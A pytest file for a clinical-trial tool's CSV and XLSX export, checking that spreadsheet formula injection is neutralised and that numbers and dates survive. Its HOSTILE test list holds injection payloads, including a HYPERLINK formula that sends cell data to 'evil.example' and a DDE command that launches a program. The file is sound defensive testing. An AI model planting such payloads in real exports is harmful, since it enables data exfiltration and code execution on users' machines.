"""Listings as CSV and XLSX: hostile text stays inert text, numbers stay numbers, dates stay dates."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from trialcoord.kernel.render.tabular import csv_text, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    " =1",
    "\r=1",
    "  \t-1",
    "=cmd|' /C calc'!A0",
]
COLUMNS = ["participant", "visit", "days_outside", "detected", "closed", "note"]
ROWS = [
    {
        "participant": "101-001",
        "visit": "V2",
        "days_outside": -2,
        "detected": date(2025, 3, 4),
        "closed": None,
        "note": "Zoë's visit — 予定外",
    },
    ("101-002", "V3", 4.5, date(2025, 12, 31), datetime(2026, 1, 2, 9, 30), "ok"),
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_csv_quotes_every_text_that_a_spreadsheet_would_evaluate():
    rows = read_csv(csv_text(["text"], [[value] for value in HOSTILE]))
    assert [cell for [cell] in rows[1:]] == ["'" + value for value in HOSTILE]


def test_csv_quotes_line_breaks_inside_a_cell():
    text = csv_text(["note", "n"], [["line one\rline two\nthree", 1]])
    assert read_csv(text) == [["note", "n"], ["line one\rline two\nthree", "1"]]


def test_csv_leaves_harmless_text_alone():
    harmless = ["101-001", "a=b", "e-mail", "Visit 2 (-2 days)", "", "'quoted", "£5"]
    rows = read_csv(csv_text(["text"], [[value] for value in harmless]))
    assert [cell for [cell] in rows[1:]] == harmless


def test_csv_header_is_guarded_too():
    assert read_csv(csv_text(["=1", "ok"], []))[0] == ["'=1", "ok"]


def test_csv_writes_numbers_dates_and_none_plainly():
    rows = read_csv(csv_text(COLUMNS, ROWS))
    assert rows[0] == COLUMNS
    assert rows[1] == ["101-001", "V2", "-2", "2025-03-04", "", "Zoë's visit — 予定外"]
    assert rows[2] == ["101-002", "V3", "4.5", "2025-12-31", "2026-01-02T09:30:00", "ok"]
    assert read_csv(csv_text(["n"], [[Decimal("-1.50")], [True]]))[1:] == [["-1.50"], ["True"]]


def test_rows_of_the_wrong_length_are_refused():
    with pytest.raises(ValueError, match="row 2 has 1 values for 2 columns"):
        csv_text(["a", "b"], [[1, 2], [1]])
    with pytest.raises(ValueError, match="row 1 has 1 values for 2 columns"):
        xlsx_bytes("s", ["a", "b"], ["ab"])


def test_xlsx_writes_hostile_text_as_strings_with_its_exact_value():
    sheet = read_xlsx(xlsx_bytes("Deviations", ["text"], [[value] for value in HOSTILE]))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    assert [unescape(cell.value) for cell in cells] == HOSTILE  # "\r" is stored as OOXML's _x000D_, as Excel does


def test_xlsx_never_stores_a_formula_or_a_link():
    data = xlsx_bytes("Deviations", ["text"], [[value] for value in HOSTILE] + [["https://evil.example"]])
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml and b"<hyperlink" not in sheet_xml
        assert not any(
            "externalLink" in name or ".rels" in name and b"hyperlink" in package.read(name)
            for name in package.namelist()
        )


def test_xlsx_keeps_numbers_dates_none_and_unicode():
    sheet = read_xlsx(xlsx_bytes("Deviations", COLUMNS, ROWS))
    header, first, second = [[cell for cell in row] for row in sheet.iter_rows(max_row=3)]
    assert [cell.value for cell in header] == COLUMNS
    assert (first[2].data_type, first[2].value) == ("n", -2)
    assert (second[2].data_type, second[2].value) == ("n", 4.5)
    assert first[3].value == datetime(2025, 3, 4) and first[3].is_date and first[3].number_format == "yyyy-mm-dd"
    assert second[4].value == datetime(2026, 1, 2, 9, 30) and second[4].is_date
    assert first[4].value is None
    assert first[5].value == "Zoë's visit — 予定外" and first[0].value == "101-001" and first[0].data_type == "s"


def test_xlsx_header_is_bold_frozen_filtered_and_columns_are_sized():
    sheet = read_xlsx(xlsx_bytes("Deviations", COLUMNS, ROWS))
    assert sheet.title == "Deviations"
    assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F3"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEF"}
    assert widths["A"] >= len("participant") and widths["D"] >= len("2025-03-04") and widths["F"] >= len("Zoë's visit")


def test_xlsx_is_the_same_bytes_every_time_with_a_fixed_created_date():
    assert xlsx_bytes("Deviations", COLUMNS, ROWS) == xlsx_bytes("Deviations", COLUMNS, ROWS)
    stamped = xlsx_bytes("Deviations", COLUMNS, ROWS, created=datetime(2025, 5, 6, 7, 8, 9))
    assert openpyxl.load_workbook(io.BytesIO(stamped)).properties.created == datetime(2025, 5, 6, 7, 8, 9)


def test_xlsx_sheet_names_follow_excels_rules():
    assert read_xlsx(xlsx_bytes("DEMO-001/101: [late]?", ["a"], [])).title == "DEMO-001-101- -late--"
    assert read_xlsx(xlsx_bytes("'" + "x" * 40, ["a"], [])).title == "x" * 30
    assert read_xlsx(xlsx_bytes("", ["a"], [])).title == "Sheet1"


def test_round_trip_of_a_few_rows_through_both_formats():
    rows = [("101-001", 3, date(2025, 1, 31), "=1"), ("101-002", -1, None, "plain")]
    columns = ["participant", "days", "when", "note"]
    assert read_csv(csv_text(columns, rows)) == [
        columns,
        ["101-001", "3", "2025-01-31", "'=1"],
        ["101-002", "-1", "", "plain"],
    ]
    sheet = read_xlsx(xlsx_bytes("Listing", columns, rows))
    assert list(sheet.iter_rows(values_only=True)) == [
        tuple(columns),
        ("101-001", 3, datetime(2025, 1, 31), "=1"),
        ("101-002", -1, None, "plain"),
    ]


def test_an_empty_listing_is_just_its_header():
    assert csv_text(["a", "b"], []) == "a,b\r\n"
    sheet = read_xlsx(xlsx_bytes("Empty", ["a", "b"], []))
    assert list(sheet.iter_rows(values_only=True)) == [("a", "b")]
    with pytest.raises(ValueError, match="at least one column"):
        xlsx_bytes("Empty", [], [])
